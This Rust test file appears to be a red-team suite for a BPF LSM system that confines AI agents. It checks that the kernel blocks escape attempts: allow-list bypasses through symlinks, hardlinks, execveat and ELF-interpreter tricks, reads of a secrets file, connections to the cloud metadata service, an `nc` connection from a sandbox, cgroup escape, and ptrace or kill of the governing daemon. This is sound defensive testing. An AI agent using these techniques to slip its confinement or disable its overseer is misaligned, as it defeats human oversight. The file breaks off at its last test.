//! The red-team suite (../shared/redteam.md) against the BPF LSM programs. It runs inside the VM
//! that `cargo xtask test` boots (a Debian 6.1 kernel with `bpf` among its LSMs), because the
//! host kernel refuses LSM programs.
//!
//! Layout, after Landlock's selftests: one fixture (an agent cgroup, an outsider cgroup, a
//! policy, files and tools), and a matrix of cases, each attempt made in a freshly forked child:
//! in the agent it must fail with EPERM and produce the matching decision event; the same
//! attempt outside the agent (the control) must not be refused. Each case prints
//! `redteam: tried|denied|control <case>`, which `cargo xtask test` counts.

use std::{
    net::{Ipv4Addr, SocketAddr, SocketAddrV4, TcpListener},
    path::{Path, PathBuf},
    time::Duration,
};

use governance_common::{Cause, Event, Kind, Verdict, flags};
use governance_tests::{
    Attempt, AttemptLoop, Container, Loaded, Outcome, TestCgroup, cstr, governance_bin, install,
    pin_dir, require_root, run_in, run_in_namespaces, shared_pins, start_daemon, start_daemon_in,
    start_daemon_of_build, stop_daemon, text,
};

const BUSYBOX: &str = "/bin/busybox";
const HELPER: &str = "/governance/bin/redteam-helper";

/// Files and tools of one test, in a private directory.
struct Fixture {
    dir: PathBuf,
    agent: TestCgroup,
    outsider: TestCgroup,
}

impl Fixture {
    fn new(name: &str) -> Self {
        let dir = PathBuf::from(format!("/tmp/rt-{}-{name}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        for sub in ["allowed", "blocked", "secrets", "scratch", "tmp"] {
            std::fs::create_dir_all(dir.join(sub)).unwrap();
        }
        // busybox picks the applet from argv[0]'s base name: these are `true` wherever they are.
        for tool in [
            "allowed/true",
            "allowed/sh",
            "blocked/true",
            "allowed/sandboxme",
        ] {
            std::fs::copy(BUSYBOX, dir.join(tool)).unwrap();
        }
        std::fs::copy(BUSYBOX, dir.join("blocked/interp")).unwrap();
        std::fs::write(dir.join("secrets/key"), "secret").unwrap();
        std::fs::write(dir.join("readonly.txt"), "read me").unwrap();
        std::fs::write(dir.join("public.txt"), "public").unwrap();
        std::fs::write(dir.join("approve-me.txt"), "after approval").unwrap();
        std::fs::write(dir.join("shadowed.txt"), "shadowed").unwrap();
        std::fs::write(dir.join("throttled.txt"), "throttled").unwrap();
        Self {
            dir,
            agent: TestCgroup::new("agent"),
            outsider: TestCgroup::new("outsider"),
        }
    }

    fn p(&self, rel: &str) -> PathBuf {
        self.dir.join(rel)
    }

    /// The red-team policy: exec allow-list, file and network rules, one of each verdict.
    fn policy(&self, extra: &str) -> String {
        let d = self.dir.display();
        format!(
            "name: redteam\n\
             agents: {{ cgroup: {agent} }}\n\
             defaults: {{ exec: block }}\n\
             sandbox_profiles:\n  jail: {{ network: none, writable: [{d}/scratch] }}\n\
             rules:\n\
             \x20 - {{ id: tools, exec: {{ prefix: {d}/allowed }}, verdict: allow, reason: the allow-list }}\n\
             \x20 - {{ id: busybox, exec: {{ path: {BUSYBOX} }}, verdict: allow, reason: shell }}\n\
             \x20 - {{ id: helper, exec: {{ path: {HELPER} }}, verdict: allow, reason: test helper }}\n\
             \x20 - {{ id: exfil, exec: {{ path: {d}/blocked/true }}, verdict: block, reason: exfiltration tool }}\n\
             \x20 - {{ id: sandboxed, exec: {{ path: {d}/allowed/sandboxme }}, verdict: sandbox, sandbox: {{ profile: jail }}, reason: untrusted tool }}\n\
             \x20 - {{ id: secrets, file: {{ prefix: {d}/secrets }}, verdict: block, reason: credentials }}\n\
             \x20 - {{ id: readonly, file: {{ path: {d}/readonly.txt, access: [write, truncate] }}, verdict: block, reason: read only }}\n\
             \x20 - {{ id: approve, file: {{ path: {d}/approve-me.txt }}, verdict: escalate, escalate: {{ timeout: 5m }}, reason: needs a human }}\n\
             \x20 - {{ id: trial, mode: shadow, file: {{ path: {d}/shadowed.txt }}, verdict: block, reason: trial rule }}\n\
             \x20 - {{ id: burst, file: {{ path: {d}/throttled.txt }}, verdict: throttle, throttle: {{ rate: 3, per: 1h }}, reason: rate limit }}\n\
             \x20 - {{ id: meta, network: {{ cidr: 169.254.169.254/32 }}, verdict: block, reason: metadata }}\n\
             \x20 - {{ id: v6, network: {{ cidr: 'fd00::/8' }}, verdict: block, reason: private v6 }}\n\
             \x20 - {{ id: dns, network: {{ ports: 53, protocol: udp }}, verdict: block, reason: no outside resolvers }}\n\
             {extra}",
            agent = self.agent.rel.display(),
        )
    }

    fn load(&self, extra: &str) -> Loaded {
        let k = install(&self.policy(extra));
        for hook in [
            "bprm_check_security",
            "file_open",
            "socket_create",
            "userns_create",
            "bpf",
            "task_kill",
            "ptrace_access_check",
            "inode_unlink",
            "connect4",
            "connect6",
            "sendmsg4",
            "sendmsg6",
            "sock_ops",
        ] {
            k.require(hook);
        }
        k
    }
}

impl Drop for Fixture {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

/// What the control (the same attempt outside the agent) must show.
#[derive(Clone, Copy)]
enum Control {
    /// It succeeds.
    Succeeds,
    /// It is not refused by us (other errors are the network's: no route in the VM).
    NotEperm,
}

/// A denial case: EPERM and a denial event of `kind` in the agent; the control outside.
fn deny(
    k: &mut Loaded,
    fx: &Fixture,
    case: &str,
    attempt: &Attempt,
    kind: Kind,
    control: Control,
) -> Event {
    deny_errno(k, fx, case, attempt, libc::EPERM, kind, control)
}

/// [`deny`], for a syscall that reports our refusal as `errno` (procfs turns a refused
/// ptrace_may_access() into EACCES).
fn deny_errno(
    k: &mut Loaded,
    fx: &Fixture,
    case: &str,
    attempt: &Attempt,
    errno: i32,
    kind: Kind,
    control: Control,
) -> Event {
    println!("redteam: tried {case}");
    let (pid, outcome) = run_in(Some(&fx.agent.path), "agent", attempt);
    assert_eq!(outcome, Outcome::Errno(errno), "{case}: in the agent");
    // The denial (a #! script, say, is allowed before its interpreter is refused).
    let ev = k.event_where(|e| e.tgid == pid && e.flags & flags::DENIED != 0);
    assert_eq!(Kind::from_u8(ev.kind), Some(kind), "{case}: event kind");
    assert_eq!(ev.agent_cgroup, fx.agent.id(), "{case}: event agent");
    assert_eq!(ev.cgroup_id, fx.agent.id(), "{case}: event cgroup");
    assert_eq!(ev.generation, k.generation, "{case}: event generation");
    assert_eq!(text(&ev.comm), "agent", "{case}: comm");
    println!("redteam: denied {case}");
    let (pid, outcome) = run_in(Some(&fx.outsider.path), "outsider", attempt);
    match control {
        Control::Succeeds => assert_eq!(outcome, Outcome::Exited(0), "{case}: control"),
        Control::NotEperm => assert_ne!(outcome, Outcome::Errno(libc::EPERM), "{case}: control"),
    }
    assert!(
        k.try_event_for(pid, Duration::from_millis(100)).is_none(),
        "{case}: no event outside the agent"
    );
    println!("redteam: control {case}");
    ev
}

/// An attempt that must pass in the agent (and be reported).
fn allow(k: &mut Loaded, fx: &Fixture, case: &str, attempt: &Attempt) -> Event {
    let (pid, outcome) = run_in(Some(&fx.agent.path), "agent", attempt);
    assert_eq!(outcome, Outcome::Exited(0), "{case}: allowed in the agent");
    let ev = k.event_for(pid);
    assert_eq!(ev.flags & flags::DENIED, 0, "{case}: event says allowed");
    ev
}

#[test]
fn exec_cases() {
    require_root();
    let fx = Fixture::new("exec");
    let mut k = fx.load("");
    let blocked = fx.p("blocked/true");

    // 1. The blocked binary by its path: the exact (inode) rule.
    let ev = deny(
        &mut k,
        &fx,
        "1 exec blocked binary",
        &Attempt::exec(&blocked, "true"),
        Kind::Exec,
        Control::Succeeds,
    );
    assert_eq!(ev.rule_id, k.rule(4));
    assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Rule));
    assert_eq!(text(&ev.path), blocked.to_str().unwrap());

    // 2. Through a symlink, a hardlink and /proc/self/root.
    let symlink = fx.p("allowed/innocent");
    std::os::unix::fs::symlink(&blocked, &symlink).unwrap();
    let hardlink = fx.p("tmp/true");
    std::fs::hard_link(&blocked, &hardlink).unwrap();
    let proc_root = PathBuf::from("/proc/self/root").join(blocked.strip_prefix("/").unwrap());
    for (case, path) in [
        ("2 exec via symlink", &symlink),
        ("2 exec via hardlink", &hardlink),
        ("2 exec via /proc/self/root", &proc_root),
    ] {
        let ev = deny(
            &mut k,
            &fx,
            case,
            &Attempt::exec(path, "true"),
            Kind::Exec,
            Control::Succeeds,
        );
        assert_eq!(ev.rule_id, k.rule(4), "{case}");
    }

    // 3. A copy of an allowed binary outside the allow-list: the default (block) decides.
    let copy = fx.p("tmp/copy-of-true");
    std::fs::copy(fx.p("allowed/true"), &copy).unwrap();
    let ev = deny(
        &mut k,
        &fx,
        "3 exec copy outside the allow-list",
        &Attempt::exec(&copy, "true"),
        Kind::Exec,
        Control::Succeeds,
    );
    assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Default));

    // 4. execveat(fd, "", AT_EMPTY_PATH) (what fexecve does): the kernel names it /dev/fd/N.
    let ev = deny(
        &mut k,
        &fx,
        "4 execveat AT_EMPTY_PATH",
        &Attempt::exec_fd(&blocked, "true"),
        Kind::Exec,
        Control::Succeeds,
    );
    assert!(text(&ev.path).starts_with("/dev/fd/"), "{}", text(&ev.path));

    // 5. A #! script whose interpreter is blocked (by the default): the interpreter is checked.
    let script = fx.p("allowed/script");
    std::fs::write(&script, format!("#!{}\n", fx.p("blocked/interp").display())).unwrap();
    std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let ev = deny(
        &mut k,
        &fx,
        "5 #! with a blocked interpreter",
        &Attempt::exec(&script, "script"),
        Kind::Exec,
        Control::NotEperm,
    );
    assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Default));

    // 5. `sh -c` starting the blocked binary: the shell runs, its inner exec is denied.
    println!("redteam: tried 5 sh -c blocked");
    let sh_c = Attempt::exec_args(
        &fx.p("allowed/sh"),
        &["sh", "-c", blocked.to_str().unwrap()],
    );
    let (_, outcome) = run_in(Some(&fx.agent.path), "agent", &sh_c);
    assert_ne!(
        outcome,
        Outcome::Exited(0),
        "sh -c: the inner exec must fail"
    );
    let denied = k.event_where(|ev| {
        ev.flags & flags::DENIED != 0 && text(&ev.path) == blocked.to_str().unwrap()
    });
    assert_eq!(denied.rule_id, k.rule(4));
    println!("redteam: denied 5 sh -c blocked");
    let (_, outcome) = run_in(Some(&fx.outsider.path), "outsider", &sh_c);
    assert_eq!(outcome, Outcome::Exited(0), "sh -c control");
    println!("redteam: control 5 sh -c blocked");

    // 6. A binary unlinked after opening, executed through /proc/self/fd/N (default-deny).
    for (who, cgroup) in [("agent", &fx.agent.path), ("outsider", &fx.outsider.path)] {
        let copy = fx.p(&format!("tmp/unlinked-{who}"));
        std::fs::copy(fx.p("allowed/true"), &copy).unwrap();
        let attempt = Attempt::ExecUnlinked {
            path: cstr(&copy),
            argv: vec![c"true".into()],
        };
        if who == "agent" {
            println!("redteam: tried 6 exec of an unlinked binary via /proc/self/fd");
        }
        let (pid, outcome) = run_in(Some(cgroup), who, &attempt);
        if who == "agent" {
            assert_eq!(
                outcome,
                Outcome::Errno(libc::EPERM),
                "6 unlinked binary in the agent"
            );
            let ev = k.event_for(pid);
            assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Default));
            println!("redteam: denied 6 exec of an unlinked binary via /proc/self/fd");
        } else {
            assert_eq!(outcome, Outcome::Exited(0), "6 control");
            println!("redteam: control 6 exec of an unlinked binary via /proc/self/fd");
        }
    }

    // R8: a program the allowlist allows (by its prefix) that names, as its ELF interpreter
    // (PT_INTERP), one the allowlist does not: the kernel opens and maps the interpreter with
    // no exec hook, and it ran (here a copy of the dynamic loader, which is no loader the
    // daemon knows by its identity, and which runs the program). Decided as an exec now:
    // refused past the exec's point of no return, so the process is killed.
    let unlisted = fx.p("unlisted/ld");
    std::fs::create_dir_all(unlisted.parent().unwrap()).unwrap();
    std::fs::copy(loader(), &unlisted).unwrap();
    let wrapper = fx.p("allowed/wrapper");
    let run = Attempt::exec_args(&wrapper, &["redteam-helper", "dlopen", "libm.so.6", "cos"]);
    let interp = Path::new("/tmp/gov-rt-interp");
    let _ = std::fs::remove_file(interp);
    std::os::unix::fs::symlink(&unlisted, interp).unwrap();
    std::fs::write(
        &wrapper,
        with_interpreter(&std::fs::read(HELPER).unwrap(), interp),
    )
    .unwrap();
    std::fs::set_permissions(
        &wrapper,
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let case = "R8 an allowed program whose ELF interpreter is an unlisted program";
    println!("redteam: tried {case}");
    let (pid, outcome) = run_in(Some(&fx.agent.path), "agent", &run);
    assert!(
        matches!(outcome, Outcome::Signaled(_)),
        "{case}: killed past the point of no return, got {outcome:?}"
    );
    let ev = k.event_where(|e| e.tgid == pid && e.flags & flags::DENIED != 0);
    assert_eq!(Kind::from_u8(ev.kind), Some(Kind::ExecMap), "{case}");
    assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Default), "{case}");
    assert_eq!(text(&ev.path), unlisted.to_str().unwrap(), "{case}");
    println!("redteam: denied {case}");
    let (_, outcome) = run_in(Some(&fx.outsider.path), "outsider", &run);
    assert_eq!(
        outcome,
        Outcome::Exited(0),
        "{case}: control (the program ran)"
    );
    println!("redteam: control {case}");
    let _ = std::fs::remove_file(interp);

    // The allow-list itself works, and is reported.
    let ev = allow(
        &mut k,
        &fx,
        "allowed tool",
        &Attempt::exec(&fx.p("allowed/true"), "true"),
    );
    assert_eq!(ev.rule_id, k.rule(1));
    assert_eq!(Verdict::from_u8(ev.verdict), Some(Verdict::Allow));
}

#[test]
fn file_cases() {
    require_root();
    let fx = Fixture::new("file");
    let mut k = fx.load("");
    let key = fx.p("secrets/key");
    let rd = libc::O_RDONLY;

    // 7. Directly, through `..`, a symlink, /proc/self/root.
    let link = fx.p("tmp/not-a-key");
    std::os::unix::fs::symlink(&key, &link).unwrap();
    let dotdot = fx.p("allowed/../secrets/./key");
    let proc_root = PathBuf::from("/proc/self/root").join(key.strip_prefix("/").unwrap());
    for (case, path) in [
        ("7 open denied file", &key),
        ("7 open via ..", &dotdot),
        ("7 open via symlink", &link),
        ("7 open via /proc/self/root", &proc_root),
    ] {
        let ev = deny(
            &mut k,
            &fx,
            case,
            &Attempt::open(path, rd),
            Kind::File,
            Control::Succeeds,
        );
        assert_eq!(ev.rule_id, k.rule(6), "{case}");
        assert_eq!(
            text(&ev.path),
            key.to_str().unwrap(),
            "{case}: the resolved path"
        );
        assert_eq!(ev.detail, 1, "{case}: read access");
    }
    // Access mode 3 (O_RDWR|O_WRONLY): a descriptor for ioctls, with neither read nor write
    // mode, which the kernel permits as both; decided as both (red team round 11: the default
    // decided it). Control: the same open of an unruled file passes.
    let ev = deny(
        &mut k,
        &fx,
        "open with access mode 3",
        &Attempt::open(&key, libc::O_RDWR | libc::O_WRONLY),
        Kind::File,
        Control::Succeeds,
    );
    assert_eq!(ev.detail, 3, "read and write asked");
    let plain = fx.p("tmp/mode3-control");
    std::fs::write(&plain, "x").unwrap();
    allow(
        &mut k,
        &fx,
        "access mode 3 of an unruled file",
        &Attempt::open(&plain, libc::O_RDWR | libc::O_WRONLY),
    );
    // 8. O_PATH is not an open the LSM sees; re-opening it through /proc/self/fd/N is.
    deny(
        &mut k,
        &fx,
        "8 O_PATH then /proc/self/fd reopen",
        &Attempt::Reopen {
            path: cstr(&key),
            flags: rd,
        },
        Kind::File,
        Control::Succeeds,
    );
    // 9. openat2 with RESOLVE_* flags.
    for (case, resolve) in [
        ("9 openat2 RESOLVE_NO_SYMLINKS", 0x04u64),
        ("9 openat2 RESOLVE_NO_MAGICLINKS", 0x02),
    ] {
        let attempt = Attempt::Openat2 {
            path: cstr(&key),
            flags: rd,
            resolve,
        };
        deny(&mut k, &fx, case, &attempt, Kind::File, Control::Succeeds);
    }
    // 10. A write-only rule: reading works, writing and truncating do not.
    let ro = fx.p("readonly.txt");
    let ev = allow(
        &mut k,
        &fx,
        "10 read of a write-protected file",
        &Attempt::open(&ro, rd),
    );
    assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Default));
    deny(
        &mut k,
        &fx,
        "10 write of a write-protected file",
        &Attempt::open(&ro, libc::O_WRONLY),
        Kind::File,
        Control::Succeeds,
    );
    deny(
        &mut k,
        &fx,
        "10 truncate of a write-protected file",
        &Attempt::open(&ro, libc::O_RDONLY | libc::O_TRUNC),
        Kind::File,
        Control::Succeeds,
    );

    // A path longer than the kernel matches denies for agents (fail closed).
    let mut long = fx.p("tmp");
    while long.as_os_str().len() < 300 {
        long = long.join("a-rather-long-directory-name-0123456789");
    }
    std::fs::create_dir_all(&long).unwrap();
    let file = long.join("f");
    std::fs::write(&file, "x").unwrap();
    let ev = deny(
        &mut k,
        &fx,
        "long path fails closed",
        &Attempt::open(&file, rd),
        Kind::File,
        Control::Succeeds,
    );
    assert_eq!(Cause::from_u8(ev.cause), Some(Cause::TooLong));
}

#[test]
fn network_cases() {
    require_root();
    let fx = Fixture::new("net");
    let svc = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = svc.local_addr().unwrap().port();
    let mut k = fx.load(&format!(
        "\x20 - {{ id: svc, network: {{ cidr: 127.0.0.1/32, ports: {port} }}, verdict: block, reason: other local service }}\n"
    ));
    let v4 = |a: [u8; 4], p: u16| SocketAddr::V4(SocketAddrV4::new(Ipv4Addr::from(a), p));
    // 11/16. Direct TCP to a non-allowed address and to the metadata service.
    deny(
        &mut k,
        &fx,
        "16 connect to 169.254.169.254",
        &Attempt::connect(v4([169, 254, 169, 254], 80)),
        Kind::Connect,
        Control::NotEperm,
    );
    let ev = deny(
        &mut k,
        &fx,
        "16 connect to another local service",
        &Attempt::connect(v4([127, 0, 0, 1], port)),
        Kind::Connect,
        Control::Succeeds,
    );
    assert_eq!(ev.port, port);
    // 12. IPv6, and IPv4-mapped IPv6 to the same local service.
    deny(
        &mut k,
        &fx,
        "12 IPv6 connect",
        &Attempt::connect("[fd00::1]:443".parse().unwrap()),
        Kind::Connect,
        Control::NotEperm,
    );
    // The unspecified address is the local host to connect(): decided as loopback.
    for (case, addr) in [
        (
            "16 connect to 0.0.0.0 (the local host)",
            v4([0, 0, 0, 0], port),
        ),
        (
            "16 connect to ::ffff:0.0.0.0 (the local host)",
            format!("[::ffff:0.0.0.0]:{port}").parse().unwrap(),
        ),
    ] {
        let ev = deny(
            &mut k,
            &fx,
            case,
            &Attempt::connect(addr),
            Kind::Connect,
            Control::Succeeds,
        );
        assert_eq!(ev.rule_id, k.rule(14), "{case}");
    }
    let mapped: SocketAddr = format!("[::ffff:127.0.0.1]:{port}").parse().unwrap();
    deny(
        &mut k,
        &fx,
        "12 IPv4-mapped IPv6 connect",
        &Attempt::connect(mapped),
        Kind::Connect,
        Control::Succeeds,
    );
    // TCP Fast Open: the connect happens inside sendto(MSG_FASTOPEN), never through connect(2);
    // the kernel still runs the connect hook (__inet_stream_connect's pre_connect).
    let ev = deny(
        &mut k,
        &fx,
        "16 TCP Fast Open sendto to another local service",
        &Attempt::FastOpen {
            addr: v4([127, 0, 0, 1], port),
        },
        Kind::Connect,
        Control::Succeeds,
    );
    assert_eq!(ev.port, port);
    // 13. Unconnected UDP to port 53; 14. connected UDP.
    let dns = v4([127, 0, 0, 53], 53);
    let ev = deny(
        &mut k,
        &fx,
        "13 unconnected UDP sendto :53",
        &Attempt::SendTo { addr: dns },
        Kind::Send,
        Control::Succeeds,
    );
    assert_eq!(ev.detail, 17);
    deny(
        &mut k,
        &fx,
        "14 connected UDP to :53",
        &Attempt::Connect {
            addr: dns,
            udp: true,
        },
        Kind::Connect,
        Control::Succeeds,
    );
    // Another port of the same address is fine (port rules, not address rules).
    allow(
        &mut k,
        &fx,
        "UDP to another port",
        &Attempt::SendTo {
            addr: v4([127, 0, 0, 53], 54),
        },
    );
}

#[test]
fn escape_and_self_protection_cases() {
    require_root();
    let fx = Fixture::new("escape");
    let mut k = fx.load("");
    // 15. Raw, packet and netlink sockets.
    for (case, family, ty, protocol) in [
        (
            "15 raw socket",
            libc::AF_INET,
            libc::SOCK_RAW,
            libc::IPPROTO_ICMP,
        ),
        ("15 packet socket", libc::AF_PACKET, libc::SOCK_RAW, 0),
        (
            "15 netlink route socket",
            libc::AF_NETLINK,
            libc::SOCK_RAW,
            libc::NETLINK_ROUTE,
        ),
    ] {
        deny(
            &mut k,
            &fx,
            case,
            &Attempt::Socket {
                family,
                ty,
                protocol,
            },
            Kind::Socket,
            Control::Succeeds,
        );
    }
    // 17. Moving out of the agent through another cgroup's cgroup.procs.
    let procs = fx.outsider.path.join("cgroup.procs");
    deny(
        &mut k,
        &fx,
        "17 write pid into a cgroup.procs outside",
        &Attempt::write(&procs, "0"),
        Kind::File,
        Control::Succeeds,
    );
    // ... while moving into a child cgroup of its own works, and stays governed.
    let child = fx.agent.child("worker");
    allow(
        &mut k,
        &fx,
        "17 move into own child cgroup",
        &Attempt::write(&child.join("cgroup.procs"), "0"),
    );
    println!("redteam: tried 17 child cgroup still governed");
    let (pid, outcome) = run_in(
        Some(&child),
        "agent",
        &Attempt::exec(&fx.p("blocked/true"), "true"),
    );
    assert_eq!(outcome, Outcome::Errno(libc::EPERM));
    assert_eq!(k.event_for(pid).agent_cgroup, fx.agent.id());
    println!("redteam: denied 17 child cgroup still governed");
    println!("redteam: control 17 child cgroup still governed");
    // 18. New user namespaces.
    deny(
        &mut k,
        &fx,
        "18 unshare -U",
        &Attempt::Unshare {
            flags: libc::CLONE_NEWUSER,
        },
        Kind::Userns,
        Control::Succeeds,
    );
    // 19. bpf() on the pins, and removing a pin.
    let state_pin = k.pins.join("maps/STATE");
    // Linux 6.1 asks for CAP_BPF first (unprivileged bpf() is disabled), which agents never
    // get; later kernels let an object be got by its pin's permissions, and the bpf hook
    // refuses it. Either way refused, with the event of whichever came first (the bpf hook
    // holds where a policy gives CAP_BPF back: policy_relaxes_root_facility_*).
    let case = "19 bpf(BPF_OBJ_GET) on a pin";
    println!("redteam: tried {case}");
    let attempt = Attempt::BpfObjGet {
        path: cstr(&state_pin),
    };
    let (pid, outcome) = run_in(Some(&fx.agent.path), "agent", &attempt);
    assert_eq!(outcome, Outcome::Errno(libc::EPERM), "{case}");
    let ev = k.event_where(|e| e.tgid == pid && e.flags & flags::DENIED != 0);
    match Kind::from_u8(ev.kind) {
        Some(Kind::Capability) => {
            assert_eq!(u32::from(ev.detail), governance_common::caps::BPF, "{case}");
        }
        kind => assert_eq!(kind, Some(Kind::Bpf), "{case}"),
    }
    println!("redteam: denied {case}");
    let (_, outcome) = run_in(Some(&fx.outsider.path), "outsider", &attempt);
    assert_eq!(outcome, Outcome::Exited(0), "{case}: control");
    println!("redteam: control {case}");
    println!("redteam: tried 19 rm of a pin");
    let (pid, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::Unlink {
            path: cstr(&k.pins.join("maps/COUNTERS")),
        },
    );
    assert_eq!(outcome, Outcome::Errno(libc::EPERM));
    assert_eq!(Kind::from_u8(k.event_for(pid).kind), Some(Kind::Unlink));
    assert!(k.pins.join("maps/COUNTERS").exists());
    println!("redteam: denied 19 rm of a pin");
    // The control removes a pin of its own (a second pin of the same map).
    let spare = k.pins.join("spare");
    aya::maps::MapData::from_pin(k.pins.join("maps/COUNTERS"))
        .unwrap()
        .pin(&spare)
        .unwrap();
    let (_, outcome) = run_in(
        Some(&fx.outsider.path),
        "outsider",
        &Attempt::Unlink { path: cstr(&spare) },
    );
    assert_eq!(outcome, Outcome::Exited(0));
    println!("redteam: control 19 rm of a pin");
    // 20. Signals and ptrace against a protected process (standing in for the daemon).
    let mut guarded = std::process::Command::new(BUSYBOX)
        .args(["sleep", "60"])
        .spawn()
        .unwrap();
    let gpid = guarded.id();
    k.enforcer.protect(&[gpid]).unwrap();
    deny(
        &mut k,
        &fx,
        "20 ptrace attach to the daemon",
        &Attempt::PtraceSeize { pid: gpid as i32 },
        Kind::Ptrace,
        Control::Succeeds,
    );
    deny(
        &mut k,
        &fx,
        "20 SIGSTOP to the daemon",
        &Attempt::Kill {
            pid: gpid as i32,
            sig: libc::SIGSTOP,
        },
        Kind::Signal,
        Control::Succeeds,
    );
    // SIGSTOP's control stopped it; the next control (SIGKILL) ends it.
    deny(
        &mut k,
        &fx,
        "20 kill -9 of the daemon",
        &Attempt::Kill {
            pid: gpid as i32,
            sig: libc::SIGKILL,
        },
        Kind::Signal,
        Control::Succeeds,
    );
    let _ = guarded.wait();
}

#[test]
fn verdicts_shadow_throttle_sandbox_escalate() {
    require_root();
    let fx = Fixture::new("verdicts");
    let mut k = fx.load("");
    let rd = libc::O_RDONLY;
    // Shadow: allowed, reported as "would block".
    let ev = allow(
        &mut k,
        &fx,
        "shadow",
        &Attempt::open(&fx.p("shadowed.txt"), rd),
    );
    assert_ne!(ev.flags & flags::SHADOW, 0);
    assert_eq!(ev.shadow_rule_id, k.rule(9));
    assert_eq!(Verdict::from_u8(ev.shadow_verdict), Some(Verdict::Block));
    // Throttle: 3 per hour, the 4th is refused.
    let t = Attempt::open(&fx.p("throttled.txt"), rd);
    for _ in 0..3 {
        let ev = allow(&mut k, &fx, "throttle within the rate", &t);
        assert_eq!(Verdict::from_u8(ev.verdict), Some(Verdict::Throttle));
    }
    let ev = deny(
        &mut k,
        &fx,
        "throttle beyond the rate",
        &t,
        Kind::File,
        Control::Succeeds,
    );
    assert_eq!(Verdict::from_u8(ev.verdict), Some(Verdict::Throttle));
    // Sandbox: the tool runs, marked; from then on it and its children are confined
    // (no writes outside scratch/, no network).
    let script = format!(
        "echo ok > {d}/scratch/ok && ! echo no > {d}/tmp/escaped && ! nc 127.0.0.1 1 </dev/null",
        d = fx.dir.display()
    );
    println!("redteam: tried sandbox confines the process and its children");
    let sandboxed = Attempt::exec_args(&fx.p("allowed/sandboxme"), &["sh", "-c", &script]);
    let (pid, outcome) = run_in(Some(&fx.agent.path), "agent", &sandboxed);
    let ev = k.event_for(pid);
    assert_eq!(Verdict::from_u8(ev.verdict), Some(Verdict::Sandbox));
    assert_eq!(
        outcome,
        Outcome::Exited(0),
        "sandboxed: scratch writable, the rest not"
    );
    assert!(fx.p("scratch/ok").exists());
    // The kernel creates an O_CREAT file before file_open decides: an empty file may remain,
    // but nothing was written to it (see the README's limits).
    assert_eq!(
        std::fs::read_to_string(fx.p("tmp/escaped")).unwrap_or_default(),
        ""
    );
    let confined =
        k.event_where(|e| e.flags & flags::SANDBOXED != 0 && e.flags & flags::DENIED != 0);
    assert_eq!(Kind::from_u8(confined.kind), Some(Kind::File));
    println!("redteam: denied sandbox confines the process and its children");
    let (_, outcome) = run_in(Some(&fx.outsider.path), "outsider", &sandboxed);
    assert_ne!(
        outcome,
        Outcome::Exited(0),
        "control: unconfined, the escape write succeeds"
    );
    assert_eq!(
        std::fs::read_to_string(fx.p("tmp/escaped")).unwrap(),
        "no\n"
    );
    println!("redteam: control sandbox confines the process and its children");
    // Nor may it reach into an unconfined process of its agent (attach, its memory, its
    // descriptors, its environment: every ptrace_may_access check), which would act outside
    // the profile through it.
    let sibling = governance_tests::Reaped(
        governance_tests::command_in(Some(&fx.agent.path), BUSYBOX, &["sleep", "120"])
            .spawn()
            .unwrap(),
    );
    let sibling_pid = sibling.id();
    // (No redirection: the profile allows no write outside scratch/, /dev/null included.)
    let peek = format!("wc -c /proc/{sibling_pid}/environ");
    let case = "a sandboxed process reads an unconfined process of its agent";
    println!("redteam: tried {case}");
    let (_, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::exec_args(
            &fx.p("allowed/sandboxme"),
            &["sh", "-c", &format!("! {peek}")],
        ),
    );
    assert_eq!(
        outcome,
        Outcome::Exited(0),
        "sandboxed: the read is refused"
    );
    let ev = k.event_where(|e| {
        Kind::from_u8(e.kind) == Some(Kind::Ptrace) && e.object == u64::from(sibling_pid)
    });
    assert!(ev.flags & flags::SANDBOXED != 0 && ev.flags & flags::DENIED != 0);
    println!("redteam: denied {case}");
    let (_, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::exec_args(&fx.p("allowed/sh"), &["sh", "-c", &peek]),
    );
    assert_eq!(
        outcome,
        Outcome::Exited(0),
        "control: an unconfined process of the agent reads it"
    );
    println!("redteam: control {case}");
    drop(sibling);
    // Escalate: refused now with an approval request; approved; the retry passes.
    let a = Attempt::open(&fx.p("approve-me.txt"), rd);
    let ev = deny(
        &mut k,
        &fx,
        "escalate holds until approved",
        &a,
        Kind::File,
        Control::Succeeds,
    );
    assert_eq!(Verdict::from_u8(ev.verdict), Some(Verdict::Escalate));
    // Approval through the daemon is tested in `daemon_events_and_approvals`; here the grant
    // is written straight into the map, as the daemon's approval does.
    let g = governance::events::requested_grant(&ev).expect("an approval request");
    k.enforcer
        .grant(g, governance::events::monotonic_ns() + 60_000_000_000)
        .unwrap();
    let ev = allow(&mut k, &fx, "escalate retried after approval", &a);
    assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Granted));
    // The grant is for the accesses approved: reading is not writing (red team round 11: a
    // grant was keyed on the path alone).
    let ev = deny(
        &mut k,
        &fx,
        "escalate grant is per access",
        &Attempt::open(&fx.p("approve-me.txt"), libc::O_RDWR),
        Kind::File,
        Control::Succeeds,
    );
    assert_eq!(Verdict::from_u8(ev.verdict), Some(Verdict::Escalate));
    // The grant is for that object only.
    deny(
        &mut k,
        &fx,
        "escalate grant is per object",
        &Attempt::open(&fx.p("secrets/key"), rd),
        Kind::File,
        Control::Succeeds,
    );
}

/// A file an agent wrote is not taken for the program an exact exec rule names by its
/// identity (red team round 11): an inode number freed by an outside upgrade (dpkg renames the
/// new binary over the old) and handed again to a file the agent made would have run as the
/// allowed program. Modelled by a hard link: the same identity under another name, which the
/// agent then writes to. Before the write the identity decides; after it, the path (refused by
/// the allowlist's default). Controls: the rule's own path still runs, and the twin runs
/// outside the agent.
#[test]
fn a_file_an_agent_wrote_is_not_taken_for_an_exact_rule_s_program() {
    require_root();
    let fx = Fixture::new("reuse");
